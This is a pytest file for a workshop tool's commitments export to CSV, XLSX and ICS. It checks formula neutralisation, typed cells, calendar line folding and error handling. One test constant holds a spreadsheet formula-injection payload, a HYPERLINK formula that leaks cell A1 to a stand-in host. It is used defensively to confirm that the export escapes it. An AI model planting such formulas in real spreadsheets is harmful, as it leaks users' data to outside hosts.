"""`catalyse export commitments`: CSV and XLSX safe in a spreadsheet, ICS readable by calendars."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook

from workshop.cli import main
from workshop.cli.commitments import HEADERS, export_commitments
from workshop.storage.store import Store

EVIL = '=HYPERLINK("http://x.example/?leak="&A1;"clic"), puis\nune ligne\\fin'


def run_cli(args: list[str]) -> int:
    """Run `catalyse export …`."""
    return main(["export", *args])


@pytest.fixture
def exported_db(demo_store, db_path: Path) -> Path:
    """The demo database with one commitment whose text is a formula and spans two lines."""
    first = demo_store.commitments.of_workshop(demo_store.demo_id)[0]
    demo_store.commitments.update(dataclasses.replace(first, description=EVIL))
    return db_path


def test_csv_neutralises_formulas(exported_db: Path, tmp_path: Path, demo_store) -> None:
    """Every commitment is a row; a text starting with = is kept as text, not a formula."""
    out = tmp_path / "engagements.csv"
    assert run_cli(["commitments", "-o", str(out), "--db", str(exported_db)]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel shows the accents
    rows = list(csv.reader(out.read_text("utf-8-sig").splitlines(keepends=True)))
    assert tuple(rows[0]) == HEADERS
    assert len(rows) - 1 == demo_store.commitments.count()
    descriptions = [r[5] for r in rows[1:]]
    assert "'" + EVIL in descriptions
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_xlsx_opens_with_typed_cells(exported_db: Path, tmp_path: Path, demo_store) -> None:
    """The workbook opens; quantities are numbers, due dates are dates, a formula-like text is
    that text as it is, typed as text (never a formula, no CSV apostrophe in the cell)."""
    out = tmp_path / "engagements.xlsx"
    with Store.open(exported_db, read_only=True) as store:
        assert export_commitments(store, out, store.workshops.all()[0].id) == 14
    sheet = load_workbook(out).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADERS
    assert len(rows) == 15
    assert any(r[5] == EVIL for r in rows)
    assert all(isinstance(r[7], (int, float)) for r in rows[1:])
    assert all(isinstance(r[9], dt.datetime) for r in rows[1:])
    assert sheet.cell(row=2, column=6).data_type != "f"


def unfold(text: str) -> list[str]:
    assert "\n" not in text.replace("\r\n", ""), "bare LF"
    physical = text.split("\r\n")[:-1]
    assert all(len(line.encode("utf-8")) <= 75 for line in physical)
    return text.replace("\r\n ", "").split("\r\n")[:-1]


def unescape(value: str) -> str:
    out, i = [], 0
    while i < len(value):
        if value[i] == "\\":
            out.append("\n" if value[i + 1] in "nN" else value[i + 1])
            i += 2
        else:
            assert value[i] not in ",;", f"unescaped {value[i]!r} in {value!r}"
            out.append(value[i])
            i += 1
    return "".join(out)


def parse_events(text: str) -> list[dict[str, str]]:
    events: list[dict[str, str]] = []
    for line in unfold(text):
        name, _, value = line.partition(":")
        if line == "BEGIN:VEVENT":
            events.append({})
        elif events and line != "END:VEVENT" and "BEGIN" not in line:
            events[-1][name] = value
    return events


def test_ics_has_one_event_per_due_date(exported_db: Path, tmp_path: Path, demo_store) -> None:
    """One all-day VEVENT per commitment, with UID and DTSTAMP; folded lines unfold intact."""
    out = tmp_path / "engagements.ics"
    assert (
        run_cli(["commitments", "-o", str(out), "--db", str(exported_db), "--workshop", "1"]) == 0
    )
    text = out.read_bytes().decode("utf-8")
    assert text.startswith("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:")
    events = parse_events(text)
    assert len(events) == demo_store.commitments.count()
    assert len({e["UID"] for e in events}) == len(events)
    assert all(e["DTSTART;VALUE=DATE"] == "20270331" for e in events)
    assert all(len(e["DTSTAMP"]) == 16 and e["DTSTAMP"].endswith("Z") for e in events)
    summaries = [unescape(e["SUMMARY"]) for e in events]
    assert any(s.endswith(": " + EVIL) for s in summaries)
    assert "\r\n " in text  # long lines were folded


def test_bad_targets_are_refused(exported_db: Path, tmp_path: Path, capsys) -> None:
    """An unknown extension or workshop exits 2 with one clear line, and writes no file."""
    assert run_cli(["commitments", "-o", str(tmp_path / "x.pdf"), "--db", str(exported_db)]) == 2
    assert "must end in .csv, .xlsx or .ics" in capsys.readouterr().err
    args = ["commitments", "-o", str(tmp_path / "x.csv"), "--db", str(exported_db)]
    assert run_cli([*args, "--workshop", "99"]) == 2
    assert capsys.readouterr().err.startswith("catalyse: error: no workshop with id 99")
    assert not list(tmp_path.glob("x.*"))
